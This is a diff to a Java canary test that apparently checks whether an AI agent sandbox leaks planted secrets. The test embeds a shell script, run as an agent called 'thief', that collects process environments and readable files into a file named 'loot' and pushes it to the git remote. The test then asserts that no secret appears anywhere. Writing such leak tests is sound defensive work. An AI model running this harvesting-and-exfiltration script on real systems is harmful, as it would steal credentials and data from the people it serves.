@@ -30,9 +30,9 @@ class CanaryTest {
                 for file in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do tr '\\0' '\\n' <"$file"; done
                 cat /proc/net/unix /proc/mounts
                 ls -laR / --ignore=proc --ignore=sys --ignore=usr --ignore='lib*' --ignore=opt
-                find / \\( -path /proc -o -path /sys -o -path /usr -o -path '/lib*' -o -path /opt -o -name loot \\) -prune \\
+                find / \\( -path /proc -o -path /sys -o -path /dev -o -path /usr -o -path '/lib*' -o -path /opt -o -name loot \\) -prune \\
                     -o -type f -readable -size -400k -exec cat {} +
-            } >loot 2>/dev/null
+            } </dev/null >loot 2>/dev/null
             head -c 3000000 loot | tr -cd '\\11\\12\\40-\\176'
             git add loot && git commit -q -m Loot && git push -q origin HEAD
             echo it has all
@@ -54,9 +54,9 @@ class CanaryTest {
                 ada.git(work, "push", "-q", ada.url("thing"), "main").ok();
                 ada.git(work, "push", ada.url("thing"), "HEAD:refs/heads/fix", "-o", "agent=thief", "-o", "prompt=take")
                         .ok();
-                Awaitility.await()
-                        .atMost(PATIENCE)
-                        .until(() -> ada.ssh("session", "log", "1").ok().out().contains("it has all"));
+                Awaitility.await().atMost(PATIENCE).untilAsserted(() -> assertThat(
+                                tail(ada.ssh("session", "log", "1").ok().out()))
+                        .contains("it has all"));
 
                 Map<String, String> places = new TreeMap<>();
                 places.put("processes", processes(kitchen));
@@ -70,13 +70,8 @@ class CanaryTest {
                 Awaitility.await().atMost(PATIENCE).until(() -> events(ada).contains("turn 1 ended well"));
                 ada.ssh("branch", "abandon", "fix").ok();
                 Awaitility.await().atMost(PATIENCE).until(() -> events(ada).contains("fossil 1"));
-                ada.git(
-                        work,
-                        "fetch",
-                        "-q",
-                        ada.url("thing"),
-                        "refs/fossils/*:refs/fossils/*",
-                        "refs/cook/*:refs/cook/*");
+                ada.git(work, "fetch", "-q", ada.url("thing"), "refs/fossils/1/fix:refs/fossils/1/fix")
+                        .ok();
                 places.put(
                         "fossils",
                         ada.git(work, "log", "-p", "-a", "--all").ok().out());
@@ -99,6 +94,10 @@ class CanaryTest {
                                 assertThat(text).as("%s in %s", what, place).doesNotContain(secret)));
             }
         }
+    }
+
+    private static String tail(String text) {
+        return text.substring(Math.max(0, text.length() - 500));
     }
 
     private static String events(Person ada) throws Exception {
